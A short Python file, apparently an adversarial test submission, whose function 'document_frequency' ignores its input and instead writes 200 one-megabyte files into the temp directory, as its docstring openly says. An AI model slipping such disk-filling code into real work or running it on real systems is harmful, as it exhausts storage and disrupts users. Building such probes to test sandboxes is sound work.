"""Opens as many files as it can, and fills the disk with up to 200 megabytes."""
import os
import tempfile


def document_frequency(counts):
    block = b"\x00" * (1 << 20)
    for number in range(200):
        with open(os.path.join(tempfile.gettempdir(), f"zachetka-left-{number}"), "wb") as file:
            file.write(block)
    return None
